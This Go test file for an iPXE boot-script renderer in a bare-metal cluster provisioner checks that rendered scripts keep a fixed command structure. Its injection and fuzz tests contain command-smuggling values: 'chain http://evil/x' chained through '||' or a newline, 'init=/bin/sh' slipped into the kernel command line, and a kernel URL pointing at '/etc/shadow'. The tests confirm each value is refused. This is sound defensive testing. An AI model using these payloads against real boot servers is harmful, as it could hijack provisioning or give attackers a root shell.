package httpboot

import (
	"net"
	"slices"
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/types"

	infrav1 "github.com/anvil-metal/cluster-api-provider-anvil/api/v1alpha1"
	"github.com/anvil-metal/cluster-api-provider-anvil/internal/boot/agentapi"
)

// ipxeCommand is one command of a script line as iPXE executes it.
type ipxeCommand struct {
	argv []string
	term string // "||", "&&", ";" or "" (end of line)
}

type ipxeLine struct {
	label string
	cmds  []ipxeCommand
}

// cIsSpace is C's isspace, which iPXE uses to split commands.
func cIsSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\v' || c == '\f' || c == '\r'
}

// parseIPXE models iPXE's script and command parsing (src/image/script.c, src/core/exec.c):
// lines end at '\n', a trailing '\r' is dropped, a trailing '\\' joins the next line, a line
// starting with ':' is a label, commands split on isspace, a token starting with '#' starts a
// comment, and "||", "&&" and ";" (as whole tokens) separate commands. Settings expansion
// (${...}) happens per token after splitting; the callers check no token contains "${".
func parseIPXE(t testing.TB, script string) []ipxeLine {
	t.Helper()
	if !strings.HasPrefix(script, "#!ipxe") || len(script) < 7 || !cIsSpace(script[6]) {
		t.Fatalf("no #!ipxe magic: %q", script)
	}
	var lines []ipxeLine
	raw := strings.Split(strings.TrimSuffix(script, "\n"), "\n")
	for i := 0; i < len(raw); i++ {
		line := strings.TrimSuffix(raw[i], "\r")
		for strings.HasSuffix(line, "\\") && i+1 < len(raw) {
			i++
			line = strings.TrimSuffix(line, "\\") + strings.TrimSuffix(raw[i], "\r")
		}
		var l ipxeLine
		s := strings.TrimLeftFunc(line, func(r rune) bool { return r < 128 && cIsSpace(byte(r)) })
		if strings.HasPrefix(s, ":") {
			end := strings.IndexFunc(s, func(r rune) bool { return r < 128 && cIsSpace(byte(r)) })
			if end < 0 {
				end = len(s)
			}
			l.label, s = s[1:end], s[end:]
		}
		var toks []string
		for j := 0; j < len(s); {
			for j < len(s) && cIsSpace(s[j]) {
				j++
			}
			k := j
			for k < len(s) && !cIsSpace(s[k]) {
				k++
			}
			if k > j {
				toks = append(toks, s[j:k])
			}
			j = k
		}
		var cur ipxeCommand
		for _, tok := range toks {
			if tok[0] == '#' {
				break
			}
			if tok == "||" || tok == "&&" || tok == ";" {
				cur.term = tok
				l.cmds = append(l.cmds, cur)
				cur = ipxeCommand{}
				continue
			}
			cur.argv = append(cur.argv, tok)
		}
		if len(cur.argv) > 0 || cur.term != "" {
			l.cmds = append(l.cmds, cur)
		}
		lines = append(lines, l)
	}
	return lines
}

// shape is a line's structure: label and, per command, argv[0] and terminator.
func shape(lines []ipxeLine) string {
	var b strings.Builder
	for _, l := range lines {
		if l.label != "" {
			b.WriteString(":" + l.label)
		}
		for _, c := range l.cmds {
			if len(c.argv) > 0 {
				b.WriteString(" " + c.argv[0])
			} else {
				b.WriteString(" <empty>")
			}
			if c.term != "" {
				b.WriteString(" " + c.term)
			}
		}
		b.WriteString("\n")
	}
	return b.String()
}

const agentShape = `
 echo
 kernel || goto
 initrd || goto
 boot || goto
:anvil_retry
 echo
 sleep
 chain || exit
`

func sampleAgent() *AgentBoot {
	return &AgentBoot{
		Host:      types.NamespacedName{Namespace: "lab", Name: "server-a"},
		KernelURL: "http://192.168.10.1:8080/artifacts/vmlinuz", InitrdURL: "http://192.168.10.1:8080/artifacts/initramfs",
		APIURL: "https://boot.example:8443", Token: "v1.AbC-_9.xyz", Console: []string{"tty0", "ttyS1,115200n8"},
		CAFingerprint: "sha256:" + strings.Repeat("ab", 32), ExtraArgs: []string{"loglevel=3"},
		RetryURL: "http://192.168.10.1:8080/ipxe/mac/52-54-00-12-34-56",
	}
}

func TestRenderAgentScript(t *testing.T) {
	b, err := RenderScript(Script{Action: ActionAgent, Agent: sampleAgent()})
	if err != nil {
		t.Fatal(err)
	}
	want := `#!ipxe
echo Anvil: booting the agent for lab/server-a
kernel --name vmlinuz http://192.168.10.1:8080/artifacts/vmlinuz initrd=initramfs quiet anvil.api=https://boot.example:8443 anvil.token=v1.AbC-_9.xyz anvil.ca=sha256:abababababababababababababababababababababababababababababababab console=tty0 console=ttyS1,115200n8 loglevel=3 || goto anvil_retry
initrd --name initramfs http://192.168.10.1:8080/artifacts/initramfs || goto anvil_retry
boot || goto anvil_retry
:anvil_retry
echo Anvil: loading the agent failed, retrying in 10 seconds
sleep 10
chain --replace --autofree http://192.168.10.1:8080/ipxe/mac/52-54-00-12-34-56 || exit
`
	if string(b) != want {
		t.Fatalf("got\n%s\nwant\n%s", b, want)
	}
	lines := parseIPXE(t, string(b))
	if got := shape(lines); got != agentShape {
		t.Fatalf("shape\n%s", got)
	}
}

// The boot NIC goes to the agent as BOOTIF (PXELINUX's form: ARP type 01, dashes).
func TestRenderAgentScriptBootIF(t *testing.T) {
	a := sampleAgent()
	a.BootMAC = net.HardwareAddr{0x52, 0x54, 0x00, 0x12, 0x34, 0x56}
	b, err := RenderScript(Script{Action: ActionAgent, Agent: a})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), " anvil.ca=sha256:"+strings.Repeat("ab", 32)+" BOOTIF=01-52-54-00-12-34-56 console=tty0 ") {
		t.Errorf("no BOOTIF after the anvil parameters:\n%s", b)
	}
	a.BootMAC = net.HardwareAddr{1, 2, 3, 4, 5, 6, 7, 8}
	if _, err := RenderScript(Script{Action: ActionAgent, Agent: a}); err == nil {
		t.Error("an 8-byte boot MAC was rendered")
	}
}

func TestRenderSimpleScripts(t *testing.T) {
	for _, c := range []struct {
		s    Script
		want string
	}{
		{Script{Action: ActionExit}, "#!ipxe\nexit\n"},
		{Script{Action: ActionLocalDisk, BootMode: infrav1.BootModeUEFI}, "#!ipxe\nexit\n"},
		{Script{Action: ActionLocalDisk}, "#!ipxe\nexit\n"},
		{Script{Action: ActionLocalDisk, BootMode: infrav1.BootModeLegacy}, "#!ipxe\nsanboot --no-describe --drive 0x80 || exit\n"},
	} {
		b, err := RenderScript(c.s)
		if err != nil || string(b) != c.want {
			t.Errorf("%+v: %q %v", c.s, b, err)
		}
	}
	for _, s := range []Script{{Action: "format"}, {Action: ActionAgent}, {Action: ActionLocalDisk, BootMode: "CSM"}} {
		if _, err := RenderScript(s); err == nil {
			t.Errorf("%+v rendered", s)
		}
	}
}

// TestInjectionAttempts: hostile values are refused, never rendered.
func TestInjectionAttempts(t *testing.T) {
	mods := map[string]func(a *AgentBoot){
		"token with ||":         func(a *AgentBoot) { a.Token = "x || chain http://evil/x" },
		"token with newline":    func(a *AgentBoot) { a.Token = "x\nchain http://evil/x" },
		"token with expansion":  func(a *AgentBoot) { a.Token = "${net0/ip}" },
		"token with comment":    func(a *AgentBoot) { a.Token = "x#y" },
		"token with quote":      func(a *AgentBoot) { a.Token = `x" init=/bin/sh "` },
		"empty token":           func(a *AgentBoot) { a.Token = "" },
		"name with newline":     func(a *AgentBoot) { a.Host.Name = "a\nchain http://evil/x" },
		"name with space":       func(a *AgentBoot) { a.Host.Name = "a || shell" },
		"namespace upper":       func(a *AgentBoot) { a.Host.Namespace = "Lab" },
		"kernel file URL":       func(a *AgentBoot) { a.KernelURL = "file:///etc/shadow" },
		"kernel tftp URL":       func(a *AgentBoot) { a.KernelURL = "tftp://10.0.0.1/x" },
		"api with query":        func(a *AgentBoot) { a.APIURL = "http://x/?a=1&&b" },
		"api with fragment":     func(a *AgentBoot) { a.APIURL = "http://x/#frag" },
		"api with userinfo":     func(a *AgentBoot) { a.APIURL = "http://u:p@x/" },
		"api host with dollar":  func(a *AgentBoot) { a.APIURL = "http://${ip}/" },
		"api zoned v6":          func(a *AgentBoot) { a.APIURL = "http://[fe80::1%25eth0]/" },
		"api bad port":          func(a *AgentBoot) { a.APIURL = "http://x:99999/" },
		"console with space":    func(a *AgentBoot) { a.Console = []string{"ttyS0 init=/bin/sh"} },
		"console with dollar":   func(a *AgentBoot) { a.Console = []string{"${x}"} },
		"extra overrides token": func(a *AgentBoot) { a.ExtraArgs = []string{"anvil.token=attacker"} },
		"extra overrides api":   func(a *AgentBoot) { a.ExtraArgs = []string{"anvil.api=http://evil"} },
		"extra initrd":          func(a *AgentBoot) { a.ExtraArgs = []string{"initrd=evil"} },
		"extra with space":      func(a *AgentBoot) { a.ExtraArgs = []string{"a=b c"} },
		"extra double dash":     func(a *AgentBoot) { a.ExtraArgs = []string{"--"} },
		"extra semicolon":       func(a *AgentBoot) { a.ExtraArgs = []string{";"} },
		"ca not hex":            func(a *AgentBoot) { a.CAFingerprint = "sha256:" + strings.Repeat("zz", 32) },
		"huge cmdline": func(a *AgentBoot) {
			a.ExtraArgs = []string{"x=" + strings.Repeat("a", 256), "y=" + strings.Repeat("a", 256)}
			a.Token = strings.Repeat("t", 1024)
			a.Console = []string{"ttyS0", "ttyS1", "ttyS2", "ttyS3", "ttyS4", "ttyS5", "ttyS6", "ttyS7", "ttyS8", "ttyS9", "ttyS10", "ttyS11", "ttyS12", "ttyS13", "ttyS14", "ttyS15", "ttyS16", "ttyS17", "ttyS18", "ttyS19", "ttyS20", "ttyS21", "ttyS22", "ttyS23", "ttyS24", "ttyS25", "ttyS26", "ttyS27", "ttyS28", "ttyS29", "ttyS30", "ttyS31", "ttyS32", "ttyS33", "ttyS34", "ttyS35", "ttyS36", "ttyS37", "ttyS38", "ttyS39", "ttyS40", "ttyS41", "ttyS42", "ttyS43", "ttyS44", "ttyS45", "ttyS46", "ttyS47", "ttyS48", "ttyS49", "ttyS50"}
		},
	}
	for name, mod := range mods {
		a := sampleAgent()
		mod(a)
		b, err := RenderScript(Script{Action: ActionAgent, Agent: a})
		if err == nil {
			t.Errorf("%s: rendered\n%s", name, b)
			continue
		}
		if a.Token != "" && len(a.Token) > 8 && strings.Contains(err.Error(), a.Token) {
			t.Errorf("%s: error echoes the token", name)
		}
	}
}

// TestURLEscaping: odd but valid URL paths are percent-encoded into the safe set.
func TestURLEscaping(t *testing.T) {
	a := sampleAgent()
	a.KernelURL = "http://boot.example/agent%20v1/vmlinuz$x{y}|z&w;q"
	a.APIURL = "http://[2001:db8::1]:8080"
	b, err := RenderScript(Script{Action: ActionAgent, Agent: a})
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	if !strings.Contains(s, "http://boot.example/agent%20v1/vmlinuz%24x%7By%7D%7Cz%26w%3Bq ") ||
		!strings.Contains(s, "anvil.api=http://[2001:db8::1]:8080 ") {
		t.Fatalf("escaping:\n%s", s)
	}
}

// FuzzRenderScript feeds arbitrary values into every field that reaches a script and checks,
// with a model of iPXE's parser, that whatever renders has exactly the template's commands:
// no extra line, command, terminator, label, comment or settings expansion, and a kernel
// command line whose anvil.* parameters read back as given.
func FuzzRenderScript(f *testing.F) {
	a := sampleAgent()
	f.Add(uint8(2), a.Host.Namespace, a.Host.Name, a.Token, a.APIURL, a.KernelURL, "ttyS0,115200n8", "quiet", a.CAFingerprint)
	f.Add(uint8(2), "ns", "n", "t||x", "http://x/ || chain", "http://x/${a}", "tty0 x", "a=b;c", "")
	f.Add(uint8(2), "ns", "n\nchain", "tok\r\nexit", "http://[::1]:80/a#b", "https://h:1/p?q", "t\\", "anvil.token=x", "sha256:00")
	f.Add(uint8(1), "", "", "", "", "", "", "", "")
	f.Fuzz(func(t *testing.T, mode uint8, ns, name, tok, api, kernel, console, extra, ca string) {
		s := Script{}
		switch mode % 4 {
		case 0:
			s.Action = ActionExit
		case 1:
			s.Action, s.BootMode = ActionLocalDisk, infrav1.BootModeLegacy
		case 2, 3:
			s.Action = ActionAgent
			s.Agent = &AgentBoot{
				Host: types.NamespacedName{Namespace: ns, Name: name}, KernelURL: kernel, InitrdURL: kernel + "/i",
				APIURL: api, Token: tok, CAFingerprint: ca, RetryURL: api + "/r",
			}
			if console != "" {
				s.Agent.Console = []string{console}
			}
			if extra != "" {
				s.Agent.ExtraArgs = []string{extra}
			}
		}
		b, err := RenderScript(s)
		if err != nil {
			if len(tok) >= 8 && strings.Contains(err.Error(), tok) {
				t.Fatalf("error echoes the token: %v", err)
			}
			return
		}
		for i, c := range b {
			if c != '\n' && (c < 0x20 || c > 0x7e) {
				t.Fatalf("byte %d is %#x, outside printable ASCII:\n%q", i, c, b)
			}
		}
		script := string(b)
		if strings.Contains(script, "${") || strings.Contains(script, "\\\n") {
			t.Fatalf("expansion or line continuation in script:\n%s", script)
		}
		lines := parseIPXE(t, script)
		// Only the magic line may be a comment: no other token starts with '#'.
		if strings.Count(script, "#") != 1 || strings.Count(script, " #") != 0 {
			t.Fatalf("comment injected:\n%s", script)
		}
		got := shape(lines)
		switch s.Action {
		case ActionExit:
			if got != "\n exit\n" {
				t.Fatalf("exit script shape %q", got)
			}
			return
		case ActionLocalDisk:
			if got != "\n sanboot || exit\n" {
				t.Fatalf("local disk script shape %q", got)
			}
			return
		}
		if got != agentShape {
			t.Fatalf("agent script shape changed:\n%s\nscript:\n%s", got, script)
		}
		if echo := lines[1].cmds[0].argv; len(echo) != 7 || echo[6] != ns+"/"+name {
			t.Fatalf("echo line %q", echo)
		}
		for _, l := range lines {
			for _, c := range l.cmds {
				for _, tk := range c.argv {
					if tk == "--" {
						t.Fatalf("'--' would end the kernel's arguments:\n%s", script)
					}
				}
			}
		}
		k := lines[2].cmds[0].argv
		wantArgs := 4 + 1 + len(s.Agent.Console) + len(s.Agent.ExtraArgs) // initrd, quiet, api, token, [ca]
		if ca == "" {
			wantArgs--
		}
		if len(k) != 4+wantArgs {
			t.Fatalf("kernel argv %q, want %d kernel args", k, wantArgs)
		}
		cmdline := strings.Join(k[4:], " ")
		bp, err := agentapi.ParseKernelCmdline(cmdline)
		if err != nil || bp.Token != tok || bp.CAFingerprint != ca {
			t.Fatalf("cmdline %q reads back as %+v, %v", cmdline, bp, err)
		}
		params := 0
		for _, arg := range k[4:] {
			if strings.HasPrefix(arg, "anvil.") {
				params++
			}
		}
		if params != 2+btoi(ca != "") {
			t.Fatalf("anvil.* parameters injected: %q", k)
		}
		if n := len(lines[3].cmds[0].argv); n != 4 {
			t.Fatalf("initrd argv %q", lines[3].cmds[0].argv)
		}
		if n := len(lines[8].cmds[0].argv); n != 4 {
			t.Fatalf("chain argv %q", lines[8].cmds[0].argv)
		}
	})
}

func btoi(b bool) int {
	if b {
		return 1
	}
	return 0
}

// The kernel prints its command line (with the boot token) at notice level; quiet keeps that
// off the consoles, which BMCs often log, unless the operator asks for a louder loglevel.
func TestAgentCmdlineKeepsTheTokenOffTheConsole(t *testing.T) {
	a := sampleAgent()
	a.ExtraArgs = nil
	b, err := RenderScript(Script{Action: ActionAgent, Agent: a})
	if err != nil {
		t.Fatal(err)
	}
	k := parseIPXE(t, string(b))[2].cmds[0].argv
	quiet, token := slices.Index(k, "quiet"), slices.IndexFunc(k, func(s string) bool { return strings.HasPrefix(s, "anvil.token=") })
	if quiet < 0 || token < 0 || quiet > token {
		t.Fatalf("kernel argv %q: want quiet ahead of the token", k)
	}
	for _, arg := range k {
		if strings.HasPrefix(arg, "loglevel=") || arg == "debug" {
			t.Fatalf("kernel argv %q raises the console loglevel by default", k)
		}
	}
}
